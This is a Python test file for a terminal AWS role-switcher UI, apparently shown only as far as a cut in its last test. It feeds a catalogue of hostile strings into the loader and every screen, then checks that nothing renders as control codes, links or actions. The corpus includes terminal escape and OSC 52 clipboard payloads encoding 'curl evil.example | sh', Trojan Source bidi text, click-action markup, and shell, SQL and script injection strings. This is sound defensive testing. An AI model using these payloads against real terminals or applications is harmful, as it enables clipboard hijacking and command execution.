"""T2: hostile catalogue text never reaches the terminal as control codes, markup, links or
actions (security-and-reliability.md §2.G, §3 T2; DESIGN.md §8).

The corpus has over 300 strings: terminal sequences (CSI, OSC 0/2/4/7/8/52/1337 ended by BEL
and by ESC-backslash, DCS, APC, PM, SOS, 8-bit C1, single C0 and ESC controls), bidi and
zero-width characters (Trojan Source, ZWJ), Textual/Rich markup fragments, links, emoji codes,
format and shell strings, SVG/XML breakers, 10,000-character values and plain unicode.

Two levels:
(a) the loader refuses every value that holds a control, bidi or zero-width character, in every
    string field and key of the catalogue, with a `CatalogueError` that points at that field and
    whose text is itself clean;
(b) values the loader accepts are written (tomli_w) into account and role descriptions, tags,
    role paths (so ARNs), session-name templates, source profiles and guarded roles, and every
    screen is rendered: the list and the detail pane for every role, the sessions panel after
    assuming through FakeSts, error toasts, the confirmation and variables dialogs, help and
    the command palette searched for the role.

How the screen is inspected (Textual 8.2). `screen._compositor.render_update(full=True,
screen_stack=app._background_screens)` is what `App.export_screenshot` renders: a `LayoutUpdate`
whose `.strips` hold, per terminal line, the `Strip`s the driver writes, modal screens
composited over the screens below them. A strip is a list of Rich `Segment`s: `text` is what
lands in the cells, `style.meta` carries Textual's `@click`/`@mouse.*` actions and `style.link`
the OSC 8 links, and `control` would be raw terminal codes. Checking segments (not the bytes)
separates data from Textual's own escape sequences. The bytes are checked too:
`LayoutUpdate.render_segments(console)` is the exact output, and once SGR colours and cursor
moves are removed nothing from C0, DEL, C1 or bidi may remain (an OSC 8 link would too).
Clicks are checked by wrapping `app.run_action`: markup actions run through it
(`App._broker_event`), so recording it catches any action a click on data fires.
"""

from __future__ import annotations

import base64
import copy
import io
import re
import tomllib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from functools import cache, partial
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import tomli_w
from rich.cells import cell_len
from rich.console import Console
from rich.segment import Segment
from textual._compositor import LayoutUpdate
from textual.containers import Vertical
from textual.geometry import Region
from textual.pilot import Pilot
from textual.widgets import Input

from rolecall.core.catalogue.model import CatalogueError
from rolecall.core.catalogue.store import parse
from rolecall.core.naming.session_name import parse_template
from rolecall.ui.app import RolecallApp
from rolecall.ui.screens.modals import ConfirmScreen, HelpScreen, VariablesScreen
from rolecall.ui.widgets.catalogue_list import CatalogueList
from rolecall.ui.widgets.role_detail import RoleDetail
from rolecall.ui.widgets.sessions_panel import SessionsPanel
from tests.aws import FakeSts
from tests.functional.tui_support import START, FakeClock, app_of, build_app, until

SIZE = (150, 40)

# ---------------------------------------------------------------------------------------------
# The corpus

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
CLIPBOARD = base64.b64encode(b"curl evil.example | sh\n").decode()

_OSC_BODIES = (
    "0;pwned title",
    "2;pwned title",
    "4;1;rgb:ff/00/00",
    "7;file://evil.example/tmp",
    "8;;https://evil.example/",
    f"52;c;{CLIPBOARD}",
    "52;p;?",
    "1337;File=inline=1:AAAA",
    "10;?",
)

CONTROL_PAYLOADS: tuple[str, ...] = (
    # CSI: clear, home, colours, hidden text, alternate screen, cursor, mouse, queries
    *(
        ESC + "[" + tail
        for tail in (
            "2J",
            "3J",
            "H",
            "1;1H",
            "31m",
            "0m",
            "8m",
            "?1049h",
            "?25l",
            "?1000h",
            "6n",
            "c",
            "K",
            "1A",
            "20t",
            ">0q",
        )
    ),
    # OSC ended by BEL and by ST (ESC \), and a whole OSC 8 hyperlink
    *(ESC + "]" + body + end for body in _OSC_BODIES for end in (BEL, ST)),
    f"{ESC}]8;;https://evil.example/{ST}click me{ESC}]8;;{ST}",
    "\x9d0;8-bit title\x9c",
    f"\x9d52;c;{CLIPBOARD}\x07",
    # DCS (DECRQSS, sixel, XTGETTCAP, tmux pass-through of an OSC 52), APC, PM, SOS
    f"{ESC}P$qm{ST}",
    f"{ESC}Pq#0;2;0;0;0#0~~@@vv@@~~{ST}",
    f"{ESC}P+q544e{ST}",
    f"{ESC}Ptmux;{ESC}{ESC}]52;c;{CLIPBOARD}{BEL}{ST}",
    "\x90$qm\x9c",
    f"{ESC}_Gf=100;AAAA{ST}",
    f"{ESC}^privacy message{ST}",
    f"{ESC}Xstart of string{ST}",
    # 8-bit C1 controls
    "\x9b2J",
    "\x9b31m",
    "\x85",
    "\x84",
    "\x88",
    "\x8d",
    "\x8e",
    "\x8f",
    "\x9a",
    "\x9f",
    "\x80",
    "\x9c",
    # C0 controls, DEL, and overwrite tricks
    "\x00",
    "\x01",
    BEL,
    "\x08",
    "\t",
    "\n",
    "\x0b",
    "\x0c",
    "\r",
    "\x0e",
    "\x0f",
    "\x1a",
    ESC,
    "\x1f",
    "\x7f",
    "\r\n",
    "readonly\rADMIN",
    "\x08\x08\x08\x08prod",
    # ESC sequences that are not CSI/OSC: reset, save/restore cursor, charsets, DECALN
    ESC + "c",
    ESC + "7",
    ESC + "8",
    ESC + "(0",
    ESC + "#8",
    ESC + "=",
    ESC + "M",
    # bidi embeddings, overrides, isolates and marks; Trojan Source
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "access\u202e\u2066 // admin\u2069\u2066",
    # zero-width characters, ZWJ, BOM, line and paragraph separators
    *"\u200b\u200c\u200d\u2060\ufeff\u2028\u2029",
    "\U0001f469\u200d\U0001f4bb",
    "pro\u200bd",
)

REJECTED: tuple[str, ...] = tuple(
    dict.fromkeys([*CONTROL_PAYLOADS, *(f"payments{payload}prod" for payload in CONTROL_PAYLOADS)])
)
"""Values the loader must refuse wherever they are put."""

MARKUP: tuple[str, ...] = (
    "[@click=app.quit]x[/]",
    "[@click=app.quit]prod-account[/]",
    "[@click=app.toggle_order]order[/]",
    "[@click=app.favourite]star[/]",
    "[@click=app.presenter]mask[/]",
    "[@click=app.shell]shell[/]",
    "[@click=app.copy_exports]copy[/]",
    "[@click=screen.dismiss]dismiss[/]",
    "[@click=app.bell]",
    "[@click=app.exit(1)]exit[/]",
    "[@click=app.pwn('x')]pwn[/]",
    "[@mouse.down=app.quit]down[/]",
    "[@mouse.up=app.quit]up[/]",
    "[link='https://evil.example']y[/link]",
    "[link=https://evil.example/]x[/link]",
    "[link='javascript:alert(1)']j[/]",
    "[link=file:///etc/passwd]f[/link]",
    "[/]",
    "[/b]",
    "[b]",
    "[b]bold",
    "[i][u][s]",
    "[bold red on white]loud",
    "[reverse]rev[/reverse]",
    "[blink]blink[/blink]",
    "[dim]",
    "[$accent]var",
    "[$text 50%]half",
    "[#ff0000]red",
    "[on #00ff00]green",
    "[B]upper[/B]",
    "[ b]space",
    "[Bold]k[/]",
    "\\[b]escaped",
    "\\\\[b]double",
    "trailing\\",
    "[[b]]",
    "[@click]",
    "[@click=]",
    "[@click=1+]",
    "[link=",
    "[b",
    "]",
    "[",
    "[]",
    "[=]",
    "[/link]",
    ":warning: :cross_mark:",
    ":skull:",
)

TEXT: tuple[str, ...] = (
    "{user}",
    "{0}",
    "%s%s%s%n",
    "${HOME}",
    "$(touch /tmp/pwned)",
    "`id`",
    "'; DROP TABLE roles; --",
    '"double quoted"',
    "'single quoted'",
    "<script>alert(1)</script>",
    "&lt;b&gt;&amp;",
    "<b>bold</b>",
    "</text><text>svg-break",
    "]]>",
    "<![CDATA[x]]>",
    "\\x1b[2J",
    "\\u202e",
    "\\e]52;c;cHduZWQ=\\a",
    "^[[2J",
    "&#27;[2J",
    "%1B%5B2J",
    "A" * 10_000,
    "[b]" * 3_333,
    "界" * 1_000,
    "x" * 65,
    "a,b c",
    "日本語アカウント",
    "Ελληνικά",
    "Ünïcödé",
    "العربية",
    "עברית",
    "\U0001f680\U0001f525\U0001f4a5",
    "e\u0301\u0301\u0301\u0301",
    "Z\u0336\u0322\u0349a\u0338l\u0337g\u0336o",
    "ﬁ",
    "ＦＵＬＬ",
    "\U0001d54f\U0001d550",
    "한국어",
    "ไทย",
    "देवनागरी",
)

INVISIBLE: tuple[str, ...] = (
    "tag\U000e0041\U000e0042chars",
    "soft\u00adhyphen",
    "cgj\u034fx",
    "filler\u115f\u3164",
    "vs\ufe0f",
    "mvs\u180e",
    "beam\U0001d173",
)
"""Invisible format characters that are not controls (tag characters, soft hyphen, fillers,
variation selectors): they can hide text too, so the loader refuses them as well."""

ACCEPTED: tuple[str, ...] = tuple(dict.fromkeys([*MARKUP, *TEXT]))
"""Printable values: the loader takes them (at least as descriptions); the UI shows them."""

HOSTILE: tuple[str, ...] = (*REJECTED, *INVISIBLE, *ACCEPTED)

FORBIDDEN = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\u2060\ufeff]"
)
"""C0, DEL, C1, bidi controls, zero-width characters and line/paragraph separators: nothing
of this may reach a cell (defined here, independently of rolecall.core.text)."""


def test_the_corpus_is_big_and_split_right() -> None:
    assert len(HOSTILE) >= 200
    assert len(REJECTED) >= 150 and len(ACCEPTED) >= 85
    assert all(FORBIDDEN.search(value) for value in REJECTED)
    assert not any(FORBIDDEN.search(value) for value in ACCEPTED)
    assert max(map(len, ACCEPTED)) >= 10_000


# ---------------------------------------------------------------------------------------------
# (a) the loader refuses control, bidi and zero-width text in every field

BASE: dict[str, Any] = {
    "version": 1,
    "defaults": {"region": "eu-west-1", "source_profile": "identity"},
    "session_names": {"default": "{user}@{host}"},
    "accounts": [
        {
            "name": "acct",
            "id": "123456789012",
            "description": "d",
            "tags": ["t"],
            "roles": [
                {
                    "name": "Role",
                    "description": "d",
                    "tags": ["t"],
                    "session_tags": {"team": "x"},
                    "transitive_tags": ["team"],
                }
            ],
        },
        {"name": "hub", "id": "210987654321", "roles": [{"name": "Hop"}]},
    ],
}

INHERITED = (
    "region",
    "source_profile",
    "duration",
    "session_name",
    "source_identity",
    "mfa_serial",
    "external_id",
    "console",
)
ROLE: tuple[str | int, ...] = ("accounts", 0, "roles", 0)

VALUE_PLACES: tuple[tuple[str | int, ...], ...] = (
    ("session_names", "default"),
    *(("defaults", name) for name in INHERITED),
    *(("accounts", 0, name) for name in ("name", "id", "partition", "description", "color")),
    *(("accounts", 0, name) for name in ("via", *INHERITED)),
    ("accounts", 0, "tags", 0),
    *((*ROLE, name) for name in ("name", "path", "description", "via", *INHERITED)),
    (*ROLE, "tags", 0),
    (*ROLE, "transitive_tags", 0),
    (*ROLE, "session_tags", "team"),
)
"""Every string value of the schema (DESIGN.md §3)."""

KEY_PLACES: tuple[tuple[str | int, ...], ...] = (
    ("session_names",),
    (*ROLE, "session_tags"),
    ("accounts", 0),
    (),
)
"""Tables where the hostile text is used as a key (a template name, a session tag key, an
unknown key)."""


def key_path(path: Sequence[str | int]) -> str:
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else part)
    return out


def put(document: dict[str, Any], path: Sequence[str | int], value: Any) -> dict[str, Any]:
    """A deep copy of `document` with `value` at `path`."""
    out = copy.deepcopy(document)
    node: Any = out
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return out


def put_key(document: dict[str, Any], path: Sequence[str | int], key: str) -> dict[str, Any]:
    """A deep copy of `document` with a new entry named `key` in the table at `path`."""
    out = copy.deepcopy(document)
    node: Any = out
    for part in path:
        node = node[part]
    node[key] = "{user}-x"
    return out


def dumps(document: dict[str, Any]) -> bytes:
    text = tomli_w.dumps(document)
    assert tomllib.loads(text) == document  # tomli_w escapes every control: a real round trip
    return text.encode()


def refusal(document: dict[str, Any]) -> CatalogueError:
    try:
        parse(dumps(document), "hostile.toml")
    except CatalogueError as error:
        return error
    raise AssertionError("the loader accepted a hostile value")


@pytest.mark.parametrize("path", VALUE_PLACES, ids=key_path)
def test_the_loader_refuses_every_hostile_value(path: tuple[str | int, ...]) -> None:
    where = key_path(path)
    for value in (*REJECTED, *INVISIBLE):
        error = refusal(put(BASE, path, value))
        assert any(p.key == where for p in error.problems), (where, ascii(value))
        for text in (str(error), error.message, error.hint or "", *map(str, error.problems)):
            assert not FORBIDDEN.search(text), (where, ascii(value), ascii(text))


@pytest.mark.parametrize("path", KEY_PLACES, ids=lambda p: key_path(p) or "root")
def test_the_loader_refuses_every_hostile_key(path: tuple[str | int, ...]) -> None:
    where = key_path(path)
    for value in REJECTED:
        error = refusal(put_key(BASE, path, value))
        assert any(p.key.startswith(where) for p in error.problems), (where, ascii(value))
        for text in (str(error), *map(str, error.problems)):
            assert not FORBIDDEN.search(text), (where, ascii(value), ascii(text))


# ---------------------------------------------------------------------------------------------
# (b) what the loader accepts is shown literally and inertly


@cache
def accepts(place: str, value: str) -> bool:
    """Whether the loader takes `value` in `place` of an otherwise valid catalogue."""
    role: dict[str, Any] = {"name": "Role"}
    document: dict[str, Any] = {
        "version": 1,
        "session_names": {"default": "{user}@{host}"},
        "accounts": [{"name": "acct", "id": "123456789012", "roles": [role]}],
    }
    if place == "description":
        role["description"] = value
    elif place == "tag":
        role["tags"] = [value]
    elif place == "path":
        role["path"] = f"/{value}/"
    elif place == "template":
        document["session_names"]["custom"] = value
        role["session_name"] = "@custom"
    elif place == "profile":
        role["source_profile"] = value
    else:
        raise AssertionError(place)
    try:
        parse(dumps(document), "probe.toml")
    except CatalogueError:
        return False
    return True


@dataclass
class Entry:
    """One accepted value and where the hostile catalogue put it."""

    index: int
    value: str
    target: str
    places: list[str] = field(default_factory=list)

    @property
    def account(self) -> str:
        return self.target.split("/")[0]

    @property
    def short(self) -> bool:
        """Fits on one line of the detail pane and of the list, so it can be looked for."""
        return cell_len(self.value) <= 40


@dataclass
class World:
    """The hostile catalogue on disk and what went where."""

    path: Path
    entries: list[Entry]
    guarded: dict[str, str]
    """Targets of prod roles (typed confirmation) whose path is a hostile value."""
    asks: dict[str, str]
    """Targets whose template is a hostile value plus a free variable (variables dialog)."""
    profiles: dict[str, str]
    """Targets whose source profile is a hostile value (it does not exist: an error toast)."""
    assumable: dict[str, str]
    """Targets whose own template is a hostile value and needs no variable."""

    @staticmethod
    def worst_first(targets: dict[str, str], count: int) -> list[str]:
        """`count` targets, those whose value could carry an action or a link first."""
        return sorted(targets, key=lambda t: not clickable(targets[t]))[:count]


def hostile_catalogue(directory: Path) -> World:
    session_names: dict[str, str] = {"default": "{user}@{host}"}
    accounts: list[dict[str, Any]] = []
    entries: list[Entry] = []
    guarded: dict[str, str] = {}
    asks: dict[str, str] = {}
    profiles: dict[str, str] = {}
    assumable: dict[str, str] = {}
    for i, value in enumerate(ACCEPTED):
        assert accepts("description", value), ascii(value[:80])
        name = f"h{i:03d}"
        entry = Entry(i, value, f"{name}/R{i:03d}", ["description"])
        role: dict[str, Any] = {"name": f"R{i:03d}", "description": value}
        roles = [role]
        if accepts("tag", value):
            role["tags"] = [value]
            entry.places.append("tag")
        if accepts("path", value):
            role["path"] = f"/{value}/"
            entry.places.append("path")
            guarded[f"{name}/Guarded"] = value
            roles.append({"name": "Guarded", "path": f"/{value}/", "tags": ["prod"]})
        if accepts("template", value):
            session_names[f"t{i:03d}"] = value
            role["session_name"] = f"@t{i:03d}"
            entry.places.append("template")
            if not parse_template(value).free_variables:
                assumable[entry.target] = value
        if accepts("template", value + "-{ticket}"):
            session_names[f"v{i:03d}"] = value + "-{ticket}"
            roles.append({"name": "Asks", "session_name": f"@v{i:03d}"})
            asks[f"{name}/Asks"] = value
        if accepts("profile", value):
            roles.append({"name": "Profile", "source_profile": value})
            profiles[f"{name}/Profile"] = value
        accounts.append(
            {"name": name, "id": f"{900_000_000_000 + i}", "description": value, "roles": roles}
        )
        entries.append(entry)
    document = {
        "version": 1,
        "defaults": {"region": "eu-west-1", "source_profile": "identity"},
        "session_names": session_names,
        "accounts": accounts,
    }
    path = directory / "hostile.toml"
    path.write_bytes(dumps(document))
    return World(path, entries, guarded, asks, profiles, assumable)


# -- reading the screen ------------------------------------------------------------------------


@dataclass
class Run:
    """One segment of the composited screen, at its cell position."""

    x: int
    y: int
    segment: Segment


@dataclass
class Screen:
    """What the terminal would show: segments, lines of text, the bytes written."""

    runs: list[Run]
    lines: list[str]
    output: str

    @property
    def text(self) -> str:
        return "\n".join(self.lines)

    def rows_in(self, region: Region) -> list[tuple[int, int, str]]:
        """(x, y, text) of each line of `region` (a widget's, in screen cells). The
        compositor cuts segments at every widget edge, so a region's runs are its own."""
        rows: dict[int, tuple[int, str]] = {}
        for run in self.runs:
            if region.contains(run.x, run.y):
                x, text = rows.get(run.y, (run.x, ""))
                rows[run.y] = (min(x, run.x), text + run.segment.text)
        return [(x, y, text) for y, (x, text) in sorted(rows.items())]

    def text_in(self, region: Region) -> str:
        """The lines of `region`."""
        return "\n".join(text for _, _, text in self.rows_in(region))

    def joined_in(self, region: Region) -> str:
        """The lines of `region` run together: what a wrapped value reads as."""
        return "".join(text.strip() for _, _, text in self.rows_in(region))

    def find(self, value: str) -> Iterator[tuple[int, int]]:
        """Cell positions (x, y) where `value` starts."""
        for y, line in enumerate(self.lines):
            start = line.find(value)
            while start >= 0:
                yield cell_len(line[:start]), y
                start = line.find(value, start + 1)


TEXTUAL_ACTIONS = {("@mouse.down", action) for action in ("grab", "scroll_up", "scroll_down")}
"""Handler metas that Textual itself puts on segments: its scrollbars (textual/scrollbar.py).
Any other `@click`/`@mouse.*` on screen can only come from markup."""

SVG_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""In an SVG only newline (and tab) may be control characters: the file's own structure."""

SGR_AND_MOVES = re.compile(r"\x1b\[[0-9;]*m|\x1b\[[0-9]+;[0-9]+H")


def read_screen(app: RolecallApp) -> Screen:
    """The composited screen (modals over what is below), as the driver would write it."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    assert isinstance(update, LayoutUpdate)
    runs: list[Run] = []
    lines: list[str] = []
    for y, strips in enumerate(update.strips):
        x = 0
        text = ""
        for strip in strips:
            for segment in strip:
                runs.append(Run(x, y, segment))
                x += segment.cell_length
                text += segment.text
        lines.append(text)
    width, height = app.size
    console = Console(
        width=width,
        height=height,
        file=io.StringIO(),
        force_terminal=True,
        color_system="truecolor",
        legacy_windows=False,
    )
    return Screen(runs, lines, update.render_segments(console))


def assert_inert(screen: Screen, where: str) -> None:
    """(i) no control/bidi character in any cell or in the bytes beyond SGR and cursor moves;
    (ii) no action or link in any segment's style."""
    for run in screen.runs:
        segment = run.segment
        assert not segment.control, (where, run.x, run.y)
        bad = FORBIDDEN.search(segment.text)
        assert bad is None, (where, run.x, run.y, ascii(segment.text[:80]))
        style = segment.style
        if style is not None:
            actions = {
                (k, v)
                for k, v in style.meta.items()
                if str(k).startswith("@") and (k, v) not in TEXTUAL_ACTIONS
            }
            assert not actions, (where, run.x, run.y, segment.text[:40], actions)
            assert style.link is None, (where, run.x, run.y, segment.text[:40], style.link)
    residue = SGR_AND_MOVES.sub("", screen.output).replace("\n", "")
    bad = FORBIDDEN.search(residue)
    assert bad is None, (where, ascii(residue[max(0, bad.start() - 20) : bad.end() + 40]))


def assert_svg_clean(app: RolecallApp, where: str) -> None:
    svg = app.export_screenshot()
    ElementTree.fromstring(svg)  # well-formed: no value broke out of its <text> element
    assert "<script" not in svg, where
    assert not SVG_FORBIDDEN.search(svg), where


# -- driving the app ---------------------------------------------------------------------------


class Actions:
    """Records every action the app runs (key bindings, and markup `@click`/`@mouse.*`, which
    `App._broker_event` hands to `run_action`)."""

    def __init__(self, app: RolecallApp, monkeypatch: pytest.MonkeyPatch) -> None:
        self.calls: list[str] = []
        self.clicks = 0
        run_action = app.run_action

        async def recording(action: Any, *args: Any, **kwargs: Any) -> bool:
            self.calls.append(str(action))
            return await run_action(action, *args, **kwargs)

        monkeypatch.setattr(app, "run_action", recording)

    async def click(self, pilot: Pilot[Any], x: int, y: int) -> None:
        """Click the cell (x, y); no action may run (a click is no key binding)."""
        before = len(self.calls)
        await pilot.click(offset=(x, y))
        self.clicks += 1
        assert self.calls[before:] == [], (x, y, self.calls[before:])


async def highlight(pilot: Pilot[Any], target: str) -> Screen:
    """Move the cursor to `target`; return the first frame whose detail pane shows it."""
    app = app_of(pilot)
    listing = app.query_one(CatalogueList)
    index = app.workspace.catalogue.index_of(target)
    assert index is not None
    listing.cursor = listing.rows.index(index)
    detail = app.query_one(RoleDetail)
    for _ in range(500):
        await pilot.pause(0.01)
        screen = read_screen(app)
        if target in screen.text_in(detail.region):
            role = app.highlighted_role()
            assert role is not None and role.target == target
            return screen
    raise AssertionError(f"{target} never showed in the detail pane")


def session_for(panel: SessionsPanel, target: str) -> bool:
    return any(active.session.target == target for active in panel.sessions)


async def click_brackets(
    pilot: Pilot[Any], actions: Actions, screen: Screen, region: Region
) -> None:
    """Click just inside the first bracket of every line of `region` that has one."""
    for x, y, text in screen.rows_in(region):
        start = text.find("[")
        if start >= 0:
            await actions.click(pilot, x + cell_len(text[:start]) + 1, y)


def clickable(value: str) -> bool:
    """Markup that would carry an action or a link if it were interpreted."""
    return "[@" in value or "[link" in value


async def click_on(
    pilot: Pilot[Any], actions: Actions, screen: Screen, value: str, once: bool = False
) -> None:
    """Click the middle of every place `value` is shown (`once`: of the first place in the
    list and the first in the detail pane)."""
    places = list(dict.fromkeys(screen.find(value)))
    if once:
        app = app_of(pilot)
        regions = (app.query_one(CatalogueList).region, app.query_one(RoleDetail).region)
        places = [
            next(p for p in places if region.contains(*p))
            for region in regions
            if any(region.contains(*p) for p in places)
        ]
    for x, y in places:
        await actions.click(pilot, x + cell_len(value) // 2, y)


def hostile_app(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sts: FakeSts
) -> tuple[RolecallApp, World]:
    world = hostile_catalogue(tmp_path)
    app = build_app(tmp_path, sts.url, monkeypatch, catalogue=world.path, clock=FakeClock(START))
    return app, world


@pytest.fixture
def world_app(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_sts: FakeSts
) -> tuple[RolecallApp, World]:
    return hostile_app(tmp_path, monkeypatch, fake_sts)


async def test_list_and_detail_show_every_value_literally_and_inertly(
    world_app: tuple[RolecallApp, World], monkeypatch: pytest.MonkeyPatch, fake_sts: FakeSts
) -> None:
    app, world = world_app
    actions = Actions(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.caller is not None)
        listing = app.query_one(CatalogueList)
        assert len(listing.rows) == len(app.workspace.catalogue)
        for entry in world.entries:
            screen = await highlight(pilot, entry.target)
            assert_inert(screen, entry.target)
            if entry.short:
                # Markup shows as typed: in the detail pane ("About", "Template", the ARN)
                # and, for tags, in the list.
                detail = screen.text_in(app.query_one(RoleDetail).region)
                assert entry.value in detail, (entry.target, entry.value)
                if "tag" in entry.places:
                    listed = screen.text_in(listing.region)
                    assert entry.value in listed, (entry.target, entry.value)
                if clickable(entry.value):
                    await click_on(pilot, actions, screen, entry.value, once=True)
            if set(entry.value) & set("<>&"):
                assert_svg_clean(app, entry.target)
        await pilot.pause()
        assert actions.clicks >= sum(clickable(e.value) and e.short for e in world.entries)
        assert actions.calls == []
        assert app.is_running and app.return_code is None
        assert not app.presenter and not app.workspace.state.favourites
        assert not app.workspace.state.alphabetical
        assert app.query_one(SessionsPanel).sessions == []
        assert fake_sts.calls() == []


async def test_detail_shows_hostile_profiles_and_variable_templates_inertly(
    world_app: tuple[RolecallApp, World], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The roles the walk above does not reach: a hostile source profile in the chain
    ("you [PROFILE] → …"), and a hostile template with a free variable in the preview (the
    same texts were clicked in the walk above: here the segments' styles are checked)."""
    app, world = world_app
    actions = Actions(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.caller is not None)
        detail = app.query_one(RoleDetail)
        for targets in (world.profiles, world.asks):
            for target in World.worst_first(targets, len(targets)):
                value = targets[target]
                screen = await highlight(pilot, target)
                assert_inert(screen, target)
                if cell_len(value) <= 40:
                    assert value in screen.text_in(detail.region), (target, value)
        assert actions.calls == []
        assert app.is_running and app.return_code is None


async def test_sessions_and_error_toasts_stay_inert(
    world_app: tuple[RolecallApp, World], monkeypatch: pytest.MonkeyPatch, fake_sts: FakeSts
) -> None:
    app, world = world_app
    actions = Actions(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.caller is not None)
        panel = app.query_one(SessionsPanel)
        # Sessions whose names come from hostile templates (rendered, then sanitised).
        assumed = World.worst_first(world.assumable, 4)
        for target in assumed:
            await highlight(pilot, target)
            await pilot.press("enter")
            await until(pilot, partial(session_for, panel, target))
        await pilot.pause()
        screen = read_screen(app)
        assert_inert(screen, "sessions")
        assert_svg_clean(app, "sessions")
        sessions = screen.text_in(panel.region)
        for active in panel.sessions:
            assert active.session.target in sessions
        # Error toasts quoting a hostile profile name and an ARN with a hostile path.
        (profile,) = World.worst_first(world.profiles, 1)
        await highlight(pilot, profile)
        await pilot.press("enter")
        await until(
            pilot,
            lambda: any(world.profiles[profile] in n.message for n in app._notifications),
        )
        fake_sts.mode = "access_denied"
        denied = next(
            e
            for e in world.entries
            if "path" in e.places and clickable(e.value) and e.target not in assumed
        )
        await highlight(pilot, denied.target)
        await pilot.press("enter")
        await until(pilot, lambda: any(denied.value in n.message for n in app._notifications))
        await pilot.pause()
        screen = read_screen(app)
        assert_inert(screen, "error toasts")
        assert_svg_clean(app, "error toasts")
        assert denied.value in screen.text  # the ARN in the toast, literally
        assert set(actions.calls) <= {"assume"}
        assert app.is_running and app.return_code is None


async def test_dialogs_and_help_stay_inert(
    world_app: tuple[RolecallApp, World], monkeypatch: pytest.MonkeyPatch, fake_sts: FakeSts
) -> None:
    app, world = world_app
    actions = Actions(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: app.caller is not None)
        # The typed confirmation for a guarded role whose ARN carries a hostile path.
        for target in World.worst_first(world.guarded, 3):
            await highlight(pilot, target)
            await pilot.press("enter")
            await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
            role = app.highlighted_role()
            assert role is not None
            screen = read_screen(app)
            assert_inert(screen, f"confirm {target}")
            assert_svg_clean(app, f"confirm {target}")
            dialog = app.screen.query_one(Vertical).content_region
            assert role.arn in screen.joined_in(dialog)
            await click_brackets(pilot, actions, screen, dialog)
            await pilot.press("escape")
            await until(pilot, lambda: not isinstance(app.screen, ConfirmScreen))
        # The variables dialog quoting a hostile template.
        for target in World.worst_first(world.asks, 3):
            await highlight(pilot, target)
            await pilot.press("enter")
            await until(pilot, lambda: isinstance(app.screen, VariablesScreen))
            screen = read_screen(app)
            assert_inert(screen, f"variables {target}")
            assert_svg_clean(app, f"variables {target}")
            dialog = app.screen.query_one(Vertical).content_region
            assert world.asks[target] in screen.joined_in(dialog)
            await click_brackets(pilot, actions, screen, dialog)
            await pilot.press("escape")
            await until(pilot, lambda: not isinstance(app.screen, VariablesScreen))
        assert actions.clicks >= 6
        # Help (no catalogue text, but it is a screen of the app).
        await pilot.press("question_mark")
        await until(pilot, lambda: isinstance(app.screen, HelpScreen))
        assert_inert(read_screen(app), "help")
        assert_svg_clean(app, "help")
        await pilot.press("escape")
        assert app.is_running and app.return_code is None
        assert fake_sts.calls() == []


async def search_palette(pilot: Pilot[Any], entry: Entry) -> Screen:
    """Open the palette, search for the entry's account, and read the screen with its hits."""
    app = app_of(pilot)
    if app.screen.id != "--command-palette":
        await pilot.press("ctrl+p")
        await until(pilot, lambda: app.screen.id == "--command-palette")
    field = app.screen.query_one(Input)
    field.value = entry.account
    await until(pilot, lambda: f"Assume {entry.target}" in read_screen(app).text)
    await pilot.pause(0.05)
    return read_screen(app)


async def test_palette_hits_for_printable_values_stay_inert(
    world_app: tuple[RolecallApp, World], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Roles whose description holds no bracket: the palette shows them without harm."""
    app, world = world_app
    actions = Actions(app, monkeypatch)
    plain = [e for e in world.entries if not set(e.value) & set("[]")]
    async with app.run_test(size=SIZE) as pilot:
        for entry in plain:
            screen = await search_palette(pilot, entry)
            assert_inert(screen, f"palette {entry.target}")
            if entry.short:
                assert entry.value in screen.text
        assert app.is_running and app.return_code is None
        assert actions.calls == ["command_palette"]


async def test_palette_hits_for_markup_values_stay_inert(
    world_app: tuple[RolecallApp, World], monkeypatch: pytest.MonkeyPatch
) -> None:
    app, world = world_app
    actions = Actions(app, monkeypatch)
    markup = [e for e in world.entries if set(e.value) & set("[]")]
    clicks = 3
    async with app.run_test(size=SIZE) as pilot:
        for entry in markup:
            screen = await search_palette(pilot, entry)
            assert_inert(screen, f"palette {entry.target}")
            if entry.short:
                assert entry.value in screen.text
            if entry.short and clickable(entry.value) and clicks:
                # A click on the description may select the hit (the role is assumed, which
                # is what the hit is for); it must not run an action written in the text.
                clicks -= 1
                x, y = next(screen.find(entry.value))
                await actions.click(pilot, x + cell_len(entry.value) // 2, y)
                for _ in range(5):
                    if len(app.screen_stack) == 1:
                        break
                    await pilot.press("escape")
        assert app.is_running and app.return_code is None
        assert set(actions.calls) <= {"command_palette", "cancel", "app.cancel"}


async def test_help_shows_hostile_keymap_entries_literally(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_sts: FakeSts
) -> None:
    """The keymap comes from the user's config, not the catalogue, but the help table is one
    more place where text could be read as markup ('[/]' used to crash the TUI on `?`)."""
    keys = {"app.shell": "[/]", "app.console": "[@click=app.quit]x[/]", "app.renew": "[b]"}
    config = tmp_path / "rolecall" / "config"
    config.mkdir(parents=True)
    (config / "config.toml").write_bytes(tomli_w.dumps({"keymap": keys}).encode())
    app = build_app(tmp_path, fake_sts.url, monkeypatch, clock=FakeClock(START))
    actions = Actions(app, monkeypatch)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("question_mark")
